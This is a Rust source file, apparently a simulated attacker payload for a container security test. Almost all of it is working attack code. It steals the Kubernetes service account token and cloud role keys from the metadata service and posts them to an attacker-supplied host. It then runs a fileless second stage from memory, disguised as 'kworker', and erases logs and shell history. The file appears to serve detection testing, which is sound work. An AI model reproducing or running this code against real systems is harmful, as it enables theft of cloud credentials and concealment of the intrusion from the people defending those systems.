//! What the attacker runs in the container. Takes the bytes behind this program's own end; does what a credential thief does: reads
//! the service account token, asks the metadata service for the role's keys, posts both, runs a second stage from memory, deletes
//! its traces. Reaches only addresses that the test made.

use std::fs;
use std::io::Write;
use std::net::SocketAddr;
use std::os::fd::AsRawFd;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result};
use nix::sys::memfd::{MFdFlags, memfd_create};

use crate::http;

const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const CREDENTIALS: &str = "/latest/meta-data/iam/security-credentials/";

/// Which payload this program is, by the bytes behind its end.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// The file that the attacker drops.
    Dropped,
    /// The second stage, which lives only in memory.
    Memory,
}

impl Kind {
    const DROPPED: &'static [u8] = b"\nstage: dropped\n";
    const MEMORY: &'static [u8] = b"\nstage: memory\n";

    /// `None` where nothing was put behind the program.
    pub(crate) fn of_this_program() -> Result<Option<Self>> {
        let program = fs::read("/proc/self/exe").context("read this program")?;
        Ok(if program.ends_with(Self::DROPPED) {
            Some(Self::Dropped)
        } else if program.ends_with(Self::MEMORY) {
            Some(Self::Memory)
        } else {
            None
        })
    }
}

/// Does what the payload does.
pub(crate) fn run(kind: Kind) -> Result<()> {
    match kind {
        Kind::Dropped => dropped(),
        Kind::Memory => {
            // Whoever sees this line was not stopped before the first instruction.
            fs::write("/tmp/second-stage-ran", b"ran")?;
            std::thread::sleep(Duration::from_mins(1));
            Ok(())
        }
    }
}

fn dropped() -> Result<()> {
    let words: Vec<String> = std::env::args().collect();
    let home: SocketAddr = words.get(1).context("the attacker's host")?.parse()?;
    let token = fs::read(TOKEN).unwrap_or_default();
    http::ask(home, "POST", "/token", "", &token)?;
    let keys = role_keys(words.get(2).map_or("169.254.169.254:80", String::as_str).parse()?)?;
    http::ask(home, "POST", "/keys", "", &keys)?;
    second_stage()?;
    erase()
}

/// Two calls, as version 2 of the service wants them.
fn role_keys(service: SocketAddr) -> Result<Vec<u8>> {
    let token = http::ask(service, "PUT", "/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds: 60\r\n", &[])?;
    let header = format!("X-aws-ec2-metadata-token: {}\r\n", String::from_utf8_lossy(&token));
    let role = http::ask(service, "GET", CREDENTIALS, &header, &[])?;
    http::ask(service, "GET", &format!("{CREDENTIALS}{}", String::from_utf8_lossy(&role)), &header, &[])
}

/// This program again, with another end, from memory.
fn second_stage() -> Result<()> {
    let mut program = fs::read("/proc/self/exe")?;
    program.truncate(program.len() - Kind::DROPPED.len());
    program.extend_from_slice(Kind::MEMORY);
    let mut file = fs::File::from(memfd_create("", MFdFlags::empty())?);
    file.write_all(&program)?;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    Command::new(path).arg("kworker").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
    Ok(())
}

fn erase() -> Result<()> {
    for trace in ["/tmp/.cache-x", "/var/log/shop.log", "/root/.ash_history"] {
        if Path::new(trace).exists() {
            fs::remove_file(trace)?;
        }
    }
    Ok(())
}
